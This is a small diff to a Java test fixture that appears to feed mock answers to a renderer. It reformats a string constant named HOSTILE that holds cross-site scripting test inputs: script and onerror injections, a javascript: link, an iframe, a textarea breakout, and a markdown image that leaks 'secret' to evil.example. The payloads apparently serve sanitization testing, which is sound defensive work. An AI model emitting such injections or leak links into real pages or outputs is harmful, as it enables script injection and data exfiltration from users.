@@ -40,7 +40,8 @@ public final class DemoAnswers implements Function<RecordedRequest, Script> {
 
             See [the manual](https://example.com/manual) for the rest. A citation of nothing: [99].
             """;
-    private static final String HOSTILE = "Look: <script>window.hacked=1</script> <img src=x onerror=\"window.hacked=1\">"
+    private static final String HOSTILE =
+            "Look: <script>window.hacked=1</script> <img src=x onerror=\"window.hacked=1\">"
             + " ![leak](https://evil.example/leak.png?q=secret) [click](javascript:window.hacked=1)"
             + " <iframe src=\"https://evil.example\"></iframe> </textarea> done [1].";
 
